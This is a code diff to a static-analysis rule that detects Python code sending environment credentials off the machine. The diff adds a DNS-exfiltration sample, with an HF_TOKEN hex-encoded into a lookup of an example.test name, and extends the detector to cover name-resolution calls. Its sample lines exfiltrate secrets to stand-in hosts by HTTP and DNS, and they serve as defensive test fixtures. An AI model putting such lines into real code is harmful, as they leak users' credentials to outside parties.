@@ -154,6 +154,7 @@ export const environmentSent: CodeRule = {
       'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.get("https://example.test", params=env)',
       'import os, requests\nrequests.post("https://example.test/c", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
       'import os, socket\nsocket.gethostbyname(str(os.environ).encode().hex() + ".example.test")',
+      'import os, socket\nsocket.getaddrinfo(os.environ["HF_TOKEN"].encode().hex() + ".example.test", 80)',
     ],
     harmless: [
       'import os, requests\nrequests.post(u, headers={"a": os.environ["API_KEY"]})',
@@ -174,7 +175,9 @@ export const environmentSent: CodeRule = {
       const address = argumentOf(call, 0, 'url')
       const isInAddress = has(address, 'credential')
       const host = hostOf(address?.texts[0] ?? '')
-      if (isSending(call) && body.length > 0 && (isInBody || isInAddress) && !isServiceOfCredentials(host))
+      const isName = /gethostby\w*$|getaddrinfo$|resolver\.\S*(resolve|query)$/.test(call.name)
+      const isForeign = isName || !isServiceOfCredentials(host)
+      if (isSending(call) && body.length > 0 && (isInBody || isInAddress) && isForeign)
         yield { line: call.line, message: 'Sends a credential of the environment away.' }
     }
   },
